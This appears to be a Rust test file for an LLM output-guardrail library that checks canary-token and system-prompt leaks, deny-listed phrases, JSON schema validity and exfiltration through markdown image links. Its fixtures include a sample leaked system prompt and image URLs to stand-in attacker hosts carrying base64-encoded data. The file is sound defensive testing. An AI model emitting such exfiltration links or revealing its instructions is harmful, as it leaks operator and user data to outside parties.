//! Output checks from outside the crate: canaries and system-prompt runs, exfiltration
//! links, schema validity, deny-lists; streamed output under each detector's hold-back
//! window; properties.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic,
    missing_docs
)]

use std::sync::Arc;

use llmops_core::{GuardInput, Guardrail, Role, TextSource, Verdict};
use llmops_guard::Detector;
use llmops_guard::output::{
    CANARY, CanaryGuard, DenyList, EXFIL_IMAGE, ExfilDetector, SYSTEM_PROMPT, SchemaAction,
    SchemaGuard,
};
use proptest::prelude::*;

mod common;
use common::stream::stream;
use serde_json::json;

const SYSTEM: &str = "You are Nova, the billing assistant of Example Corp. Answer only questions \
                      about invoices, refunds and payment methods. Escalate disputes over 500 EUR \
                      to a human agent and never mention the internal fraud score.";

/// Splits `text` at every char boundary into two chunks and, for a sample of pairs, three;
/// asserts the leak at `leak_start` is cut before any of it is released.
fn cut_at_every_split(detector: &dyn Detector, text: &str, leak_start: usize) {
    let bounds: Vec<usize> = (1..text.len())
        .filter(|i| text.is_char_boundary(*i))
        .collect();
    for &a in &bounds {
        let (cut, released) = stream(detector, &[&text[..a], &text[a..]], 0.0);
        assert!(cut, "split at {a}: not cut");
        assert!(released <= leak_start, "split at {a}: released {released}");
    }
    for &a in bounds.iter().step_by(7) {
        for &b in bounds.iter().filter(|b| **b > a).step_by(11) {
            let (cut, released) = stream(detector, &[&text[..a], &text[a..b], &text[b..]], 0.0);
            assert!(cut && released <= leak_start, "splits {a}/{b}");
        }
    }
}

fn reformat(token: &str) -> String {
    // upper case, a zero-width space and a space between characters
    token
        .to_uppercase()
        .chars()
        .map(|c| format!("{c}\u{200B} "))
        .collect::<String>()
        .trim_end()
        .to_owned()
}

#[test]
fn canary_leak_is_cut_at_every_split() {
    let guard = CanaryGuard::new().unwrap().system_prompt(SYSTEM);
    let leak = reformat(guard.token());
    let text = format!(
        "Sure, here is everything I was told, starting with the marker: {leak} — and that is all. {}",
        "More words follow here. ".repeat(10)
    );
    let start = text.find(&leak[..1]).unwrap();
    let start = text[start..].find(&leak).map(|i| start + i).unwrap();
    cut_at_every_split(&guard, &text, start);
}

#[test]
fn system_prompt_run_is_cut_at_every_split() {
    let guard = CanaryGuard::new().unwrap().system_prompt(SYSTEM);
    let leak = "answer only questions about invoices, refunds and payment methods";
    let text = format!("My rules: I {leak}. Anything else?");
    let mut found = Vec::new();
    guard.scan(&text, TextSource::Output, &mut found);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].category, SYSTEM_PROMPT);
    cut_at_every_split(&guard, &text, text.find(leak).unwrap());
}

#[test]
fn exfil_image_is_cut_at_every_split() {
    let d = ExfilDetector::new(["example.com", "*.example.com"]).unwrap();
    let url = "https://collect.evil.example/pixel.png?d=Tm92YSBzeXN0ZW0gcHJvbXB0";
    let text = format!(
        "Your invoice is ready ![logo](https://cdn.example.com/l.png). ![status]({url}) Bye."
    );
    let mut found = Vec::new();
    d.scan(&text, TextSource::Output, &mut found);
    assert_eq!(found.len(), 1);
    assert_eq!(found[0].category, EXFIL_IMAGE);
    cut_at_every_split(&d, &text, text.find(url).unwrap());
}

#[test]
fn denylist_phrase_is_cut_at_every_split() {
    let d = DenyList::builder()
        .topic("fraud", ["internal fraud score"])
        .build()
        .unwrap();
    let text = "I cannot tell you the Internal Fraud Score of your account.";
    cut_at_every_split(&d, text, text.find("Internal").unwrap());
}

#[tokio::test]
async fn schema_guard_as_a_guardrail_object() {
    let schema = json!({
        "type": "object",
        "required": ["invoice", "amount"],
        "properties": {"invoice": {"type": "string"}, "amount": {"type": "number"}},
        "additionalProperties": false
    });
    let guard: Arc<dyn Guardrail> = Arc::new(SchemaGuard::new(&schema).unwrap().strip_fence(true));
    let ok = "```json\n{\"invoice\": \"INV-7\", \"amount\": 12.5}\n```";
    assert_eq!(
        guard
            .check(&GuardInput::new(ok, TextSource::Output))
            .await
            .unwrap(),
        Verdict::Allow
    );
    let extra = r#"{"invoice": "INV-7", "amount": 12.5, "note": "hunter2"}"#;
    match guard
        .check(&GuardInput::new(extra, TextSource::Output))
        .await
        .unwrap()
    {
        Verdict::Block {
            category,
            reason,
            findings,
        } => {
            assert_eq!(category, "output.schema");
            assert!(reason.contains("additionalProperties"), "{reason}");
            assert!(!reason.contains("hunter2"));
            assert_eq!((findings[0].start, findings[0].end), (0, extra.len()));
        }
        other => panic!("{other:?}"),
    }
    // inputs are not structured output
    let user = GuardInput::new("not json", TextSource::Message(Role::User));
    assert_eq!(guard.check(&user).await.unwrap(), Verdict::Allow);
    let flag = SchemaGuard::new(&schema)
        .unwrap()
        .action(SchemaAction::Flag);
    assert_eq!(flag.verdict("[]", TextSource::Output).action(), "flag");
    // the stream tap must hold the whole output
    assert_eq!(Detector::max_match_len(&flag), None);
}

#[test]
fn detectors_as_trait_objects() {
    let canary = CanaryGuard::new().unwrap();
    let token = canary.token().to_owned();
    let detectors: Vec<Arc<dyn Detector>> = vec![
        Arc::new(canary),
        Arc::new(ExfilDetector::new(["ourcompany.com"]).unwrap()),
        Arc::new(
            DenyList::builder()
                .topic("t", ["forbidden"])
                .build()
                .unwrap(),
        ),
    ];
    let answer = format!("forbidden {token} ![x](https://evil.example/a?b=c) ");
    let mut found = Vec::new();
    for d in &detectors {
        d.scan(&answer, TextSource::Output, &mut found);
        assert!(d.max_match_len().is_some());
    }
    let cats: Vec<_> = found.iter().map(|f| f.category.as_str()).collect();
    assert_eq!(cats, ["output.canary", "output.exfil_image", "denylist.t"]);
    assert_eq!(found[0].category, CANARY);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn arbitrary_output_never_panics_any_detector(text in "\\PC{0,500}") {
        let detectors: Vec<Box<dyn Detector>> = vec![
            Box::new(CanaryGuard::new().unwrap().system_prompt(SYSTEM).min_words(4)),
            Box::new(ExfilDetector::new(["ourcompany.com", "*.ourcompany.com"]).unwrap()),
            Box::new(DenyList::builder().topic("x", ["straße", "bomb", "é"]).build().unwrap()),
            Box::new(SchemaGuard::new(&json!({"type": "object"})).unwrap().strip_fence(true)),
        ];
        for d in &detectors {
            let mut out = Vec::new();
            d.scan(&text, TextSource::Output, &mut out);
            for f in &out {
                prop_assert!(f.start <= f.end && f.end <= text.len());
                prop_assert!(text.is_char_boundary(f.start) && text.is_char_boundary(f.end));
            }
        }
    }

    #[test]
    fn markdownish_output_never_panics(text in "[!\\[\\]()<>a-z:/.?=@#\\\\ \"'\\n-]{0,300}") {
        let d = ExfilDetector::new(["a.b"]).unwrap();
        let mut out = Vec::new();
        d.scan(&text, TextSource::Output, &mut out);
        for f in &out {
            prop_assert!(f.start < f.end && f.end <= text.len());
        }
    }

    #[test]
    fn canary_anywhere_in_random_text_is_found(filler in "[a-z ]{0,300}", at in 0usize..300) {
        let g = CanaryGuard::new().unwrap();
        let at = at.min(filler.len());
        let text = format!("{} {} {}", &filler[..at], reformat(g.token()), &filler[at..]);
        let mut out = Vec::new();
        g.scan(&text, TextSource::Output, &mut out);
        prop_assert_eq!(out.len(), 1);
    }
}
